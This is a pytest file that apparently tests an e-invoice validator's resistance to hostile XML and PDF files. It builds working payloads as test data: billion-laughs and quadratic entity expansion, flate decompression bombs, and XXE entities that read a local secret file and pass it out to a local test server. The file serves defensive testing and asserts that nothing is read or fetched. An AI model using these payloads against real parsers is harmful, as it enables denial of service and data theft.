"""Files made to hurt: each gets a clear answer in bounded time and memory, and the next file goes on."""

from __future__ import annotations

import codecs
import time
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree
from pytest_httpserver import HTTPServer

from connector.documents.safe_xml import parser
from connector.model import Inspection, InspectionLost, InspectionOrder, VerdictStatus
from connector.samples.cii import cii_invoice
from connector.samples.facturx import Attachment, facturx_invoice, pdf
from connector.samples.frr import frr_report
from connector.samples.ubl import ubl_invoice
from connector.settings import Workers
from connector.validation.pool import InspectionPool
from connector.validation.schemas import Schemas

MEMORY = 1024 * 1024 * 1024  # bytes of address space of the worker, far below what the attacks want
SECONDS = 30  # for any one of them, on a busy machine; unbounded, some would take hours
SECRET = "mot-de-passe-tres-secret"
VALID, INVALID, UNREADABLE = VerdictStatus.VALID, VerdictStatus.INVALID, VerdictStatus.UNREADABLE
HEAD, REST = ubl_invoice(note="REMPLACER").split(b"\n", 1)
BEFORE, AFTER = ubl_invoice().split(b"<cbc:ProfileID>", 1)
ATTACHED = b"""<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment>
<cbc:EmbeddedDocumentBinaryObject mimeCode="image/png" filename="a">%b</cbc:EmbeddedDocumentBinaryObject>
</cac:Attachment></cac:AdditionalDocumentReference><cac:AccountingSupplierParty>"""
LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"ha" if n == 0 else b"&l%d;" % (n - 1) * 10) for n in range(12)
)


def with_doctype(subset: bytes, note: bytes = b"REMPLACER") -> bytes:
    return HEAD + b"\n<!DOCTYPE Invoice [" + subset + b"]>\n" + REST.replace(b"REMPLACER", note)


def inside(content: bytes) -> bytes:
    return BEFORE + content + b"<cbc:ProfileID>" + AFTER


def on_root(attributes: bytes) -> bytes:
    return ubl_invoice().replace(b"<Invoice ", b"<Invoice " + attributes + b" ", 1)


def packed(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


@pytest.fixture(scope="module")
def pool() -> Iterator[InspectionPool]:
    with InspectionPool(Workers(count=1, time_limit=60, memory_limit=MEMORY)) as pool:
        yield pool


def inspect(pool: InspectionPool, folder: Path, data: bytes) -> Inspection:
    """The answer for this file, after which a good one must have its own."""
    bad, good = folder / "bad", folder / "good"
    bad.write_bytes(data)
    good.write_bytes(facturx_invoice(number="NEXT"))
    orders = [InspectionOrder(key=path.name, path=path, size=1) for path in (bad, good)]
    start = time.monotonic()
    answers = dict(answer for group in pool.inspect(orders) for answer in group)
    assert time.monotonic() - start < SECONDS
    seen, other = answers["bad"], answers["good"]
    assert isinstance(other, Inspection)
    assert other.document is not None
    assert (other.document.number, other.verdict.status) == ("NEXT", VALID)
    assert not isinstance(seen, InspectionLost)
    assert len(seen.verdict.problems) <= 250
    assert len(repr(seen)) < 200_000
    return seen


def codes(seen: Inspection) -> list[str]:
    return [problem.code for problem in seen.verdict.problems]


@pytest.mark.parametrize(
    ("data", "status", "code"),
    [
        pytest.param(with_doctype(LAUGHS, b"&l11;"), UNREADABLE, "xml-doctype", id="billion laughs"),
        pytest.param(
            with_doctype(b'<!ENTITY a "' + b"x" * 100_000 + b'">', b"&a;" * 50_000),
            UNREADABLE,
            "xml-doctype",
            id="quadratic blow-up",
        ),
        pytest.param(with_doctype(b'<!ENTITY a "&a;">', b"&a;"), UNREADABLE, "xml-doctype", id="own entity"),
        pytest.param(
            inside(b"<cbc:x>" * 100_000 + b"</cbc:x>" * 100_000), UNREADABLE, "xml-too-deep", id="nesting"
        ),
        pytest.param(
            on_root(b'x="' + b"y" * 11_000_000 + b'"'), INVALID, "xsd-unexpected-attribute", id="attribute"
        ),
        pytest.param(
            on_root(b" ".join(b'a%d=""' % n for n in range(50_000))),
            INVALID,
            "xsd-unexpected-attribute",
            id="many attributes",
        ),
        pytest.param(
            inside(b"<cbc:Nonsense/>" * 300_000), INVALID, "xsd-unexpected-element", id="many elements"
        ),
        pytest.param(inside(b"<" + b"n" * 1_000_000 + b"/>"), INVALID, "xsd-other", id="long name"),
        pytest.param(b"<" * 2_000_000, UNREADABLE, "xml-not-well-formed", id="only angles"),
        pytest.param(HEAD + b"<!--" + b"-" * 5_000_000, UNREADABLE, "xml-not-well-formed", id="comment"),
        pytest.param(
            inside(b"<cbc:Note>\xc3(\xff</cbc:Note>"), UNREADABLE, "xml-encoding", id="invalid UTF-8"
        ),
        pytest.param(b"\x00\x01\x02" * 1000, UNREADABLE, "kind-unknown", id="noise"),
        pytest.param(
            codecs.BOM_UTF8 * 2 + ubl_invoice(), UNREADABLE, "kind-unknown", id="two byte order marks"
        ),
        pytest.param(b"GIF89a/*" + ubl_invoice(), UNREADABLE, "kind-unknown", id="image and XML"),
        pytest.param(b"\n" + facturx_invoice(), UNREADABLE, "kind-unknown", id="PDF not at the start"),
        pytest.param(b"%PDF-1.7\n" + ubl_invoice(), UNREADABLE, "pdf-incomplete", id="PDF and XML"),
        pytest.param(facturx_invoice() + b"PK\x03\x04", UNREADABLE, "pdf-incomplete", id="PDF and archive"),
        pytest.param(ubl_invoice() + facturx_invoice(), UNREADABLE, "xml-not-well-formed", id="XML and PDF"),
        pytest.param(
            pdf([Attachment(content=b"", packed=packed(bytes(400_000_000)))]),
            UNREADABLE,
            "pdf-unpacks-too-large",
            id="flate bomb",
        ),
        pytest.param(
            pdf([Attachment(content=b"", packed=packed(bytes(400_000_000), 2))]).replace(
                b"/Filter /FlateDecode", b"/Filter [/FlateDecode /FlateDecode]"
            ),
            UNREADABLE,
            "pdf-unpacks-too-large",
            id="bomb in a bomb",
        ),
        pytest.param(
            pdf([Attachment(content=with_doctype(LAUGHS, b"&l11;"))]),
            UNREADABLE,
            "facturx-xml-unreadable",
            id="laughs in a PDF",
        ),
        pytest.param(
            pdf([Attachment(content=b"<a>" * 100_000)]),
            UNREADABLE,
            "facturx-xml-unreadable",
            id="deep in a PDF",
        ),
    ],
)
def test_P05_a_hostile_file_is_answered_and_the_next_goes_on(
    tmp_path: Path, pool: InspectionPool, data: bytes, status: VerdictStatus, code: str
) -> None:
    seen = inspect(pool, tmp_path, data)
    assert seen.verdict.status is status
    assert code in codes(seen)


@pytest.mark.parametrize("megabytes", [12, 30])
def test_a_real_attachment_beyond_ten_megabytes_is_legal(
    tmp_path: Path, pool: InspectionPool, megabytes: int
) -> None:
    attached = ATTACHED % (b"QUJD" * (megabytes * 250_000))
    data = ubl_invoice().replace(b"<cac:AccountingSupplierParty>", attached, 1)
    seen = inspect(pool, tmp_path, data)
    assert (seen.verdict.status, codes(seen)) == (VALID, [])


@pytest.mark.parametrize("lines", [2_000, 8_000, 15_000])  # read as a tree, and as a stream first
@pytest.mark.parametrize("around", ["file of its own", "in a PDF"])
def test_a_fault_in_every_line_is_told_once_with_the_first_place_and_all_are_counted(
    tmp_path: Path, pool: InspectionPool, lines: int, around: str
) -> None:
    data = cii_invoice(lines=lines).replace(b"<ram:LineTotalAmount>", b"<ram:LineTotalAmount>EUR ")
    seen = inspect(
        pool, tmp_path, pdf([Attachment(content=data)], level="EN 16931") if around == "in a PDF" else data
    )
    first, *_ = seen.verdict.problems
    assert (first.code, first.invoice_line) == ("xsd-wrong-type", "1")
    assert first.where is not None
    assert first.line is not None
    assert sum(problem.occurrences for problem in seen.verdict.problems) == lines + 1
    assert seen.document is not None
    assert seen.document.lines == lines


@pytest.mark.parametrize("element", [b'<cbc:Note x="1"/>', b"<cac:InvoiceLine><cbc:ID/></cac:InvoiceLine>"])
def test_P05_seven_megabytes_of_faults_cost_seconds_and_not_hours(
    tmp_path: Path, pool: InspectionPool, element: bytes
) -> None:
    before, after = ubl_invoice().split(b"<cbc:DocumentCurrencyCode>", 1)
    many = element * (7_000_000 // len(element))
    data = before + many + b"<cbc:DocumentCurrencyCode>" + after
    if b"InvoiceLine" in element:
        data = ubl_invoice().replace(b"</Invoice>", many + b"</Invoice>")
    assert inspect(pool, tmp_path, data).verdict.status is INVALID


@pytest.mark.parametrize(
    "subset",
    [
        b'<!ENTITY x SYSTEM "%(file)s">',
        b'<!ENTITY x SYSTEM "%(url)s">',
        b'<!ENTITY %% p SYSTEM "%(url)s"> %%p; <!ENTITY x "">',
        b'<!ENTITY %% p SYSTEM "%(file)s"> <!ENTITY %% q "<!ENTITY x SYSTEM \'%(url)s?%%p;\'>"> %%q;',
    ],
    ids=["file", "network", "parameter", "exfiltration"],
)
@pytest.mark.parametrize("around", ["file of its own", "in a PDF", "streamed"])
def test_P05_an_external_entity_reads_no_file_and_makes_no_request(
    tmp_path: Path, pool: InspectionPool, httpserver: HTTPServer, subset: bytes, around: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    places = {b"file": secret.as_uri().encode(), b"url": httpserver.url_for("/entity").encode()}
    data = with_doctype(subset % places, b"&x;")
    if around == "in a PDF":
        data = pdf([Attachment(content=data)])
    elif around == "streamed":
        data = data.replace(b"&x;", b"&x;" + b" " * 9_000_000)
    seen = inspect(pool, tmp_path, data)
    assert seen.verdict.status is UNREADABLE
    assert SECRET not in repr(seen)
    assert httpserver.log == []


@pytest.mark.parametrize("external", [b'SYSTEM "%s"', b'PUBLIC "-//X//Y" "%s"'])
def test_P05_an_external_document_type_is_not_fetched(
    tmp_path: Path, pool: InspectionPool, httpserver: HTTPServer, external: bytes
) -> None:
    place = external % httpserver.url_for("/invoice.dtd").encode()
    seen = inspect(pool, tmp_path, HEAD + b"\n<!DOCTYPE Invoice " + place + b">\n" + REST)
    assert codes(seen) == ["xml-doctype"]
    assert httpserver.log == []


@pytest.mark.parametrize("around", ["file of its own", "streamed"])
def test_P05_hints_at_schemas_stylesheets_and_inclusions_are_not_followed(
    tmp_path: Path, pool: InspectionPool, httpserver: HTTPServer, around: str
) -> None:
    url = httpserver.url_for("/hint").encode()
    xsi = b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    hinted = on_root(
        xsi + b' xsi:schemaLocation="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 %b"' % url
    )
    hinted = hinted.replace(b"\n", b'\n<?xml-stylesheet type="text/xsl" href="%b"?>\n' % url, 1)
    if around == "streamed":
        hinted += b" " * 9_000_000
    assert inspect(pool, tmp_path, hinted).verdict.status is VALID
    included = inside(b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="%b"/>' % url)
    assert inspect(pool, tmp_path, included).verdict.status is INVALID
    assert httpserver.log == []


def test_a_schema_of_no_namespace_is_not_fetched_for_a_report(
    tmp_path: Path, pool: InspectionPool, httpserver: HTTPServer
) -> None:
    hint = (
        b'<Report xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="%b">'
    )
    data = frr_report().replace(b"<Report>", hint % httpserver.url_for("/report.xsd").encode(), 1)
    assert inspect(pool, tmp_path, data).verdict.status is VALID
    assert httpserver.log == []


@pytest.mark.parametrize("count", ["٧", "1_0", "0x1", "1e3", "+-1"])
def test_a_number_that_only_looks_like_one_is_refused(
    tmp_path: Path, pool: InspectionPool, count: str
) -> None:
    before = b"<TransactionsCount>10<"
    data = frr_report().replace(before, f"<TransactionsCount>{count}<".encode(), 1)
    assert codes(inspect(pool, tmp_path, data)) == ["xsd-wrong-type"]


@pytest.mark.parametrize(
    "amount", ["1 000.00", "1\u00a0000.00", "1\u202f000.00", "1.000,00", "1'000.00", "12€"]
)
def test_an_amount_as_the_french_write_it_is_refused(
    tmp_path: Path, pool: InspectionPool, amount: str
) -> None:
    data = ubl_invoice().replace(
        b'<cbc:PayableAmount currencyID="EUR">15.00', f'<cbc:PayableAmount currencyID="EUR">{amount}'.encode()
    )
    assert "xsd-wrong-type" in codes(inspect(pool, tmp_path, data))


@pytest.mark.parametrize("reason", ["TAC", "FC", "ZZZ"])
def test_the_schema_of_cii_leaves_codes_to_the_business_rules(
    tmp_path: Path, pool: InspectionPool, reason: str
) -> None:
    charge = f"""<ram:SpecifiedTradeAllowanceCharge>
<ram:ChargeIndicator><udt:Indicator>true</udt:Indicator></ram:ChargeIndicator>
<ram:ActualAmount>0.00</ram:ActualAmount><ram:ReasonCode>{reason}</ram:ReasonCode>
</ram:SpecifiedTradeAllowanceCharge>
<ram:SpecifiedTradePaymentTerms>"""
    data = cii_invoice().replace(b"<ram:SpecifiedTradePaymentTerms>", charge.encode(), 1)
    assert inspect(pool, tmp_path, data).verdict.status is VALID


# --------------------------------------------------------------------------- facts of lxml 6.1
def test_lxml_a_schema_fails_on_an_entity_that_was_left_in_the_tree() -> None:
    root = etree.fromstring(with_doctype(b'<!ENTITY x "y">', b"&x;"), parser())
    schema = Schemas().schema("ubl-invoice")
    with pytest.raises(etree.XMLSchemaValidateError, match="Internal error"):
        schema.validate(root)


def test_lxml_without_huge_tree_a_real_attachment_is_refused() -> None:
    data = b"<a>" + b"x" * 11_000_000 + b"</a>"
    with pytest.raises(etree.XMLSyntaxError):
        etree.fromstring(data)
    assert len(etree.fromstring(data, parser()).text or "") == 11_000_000
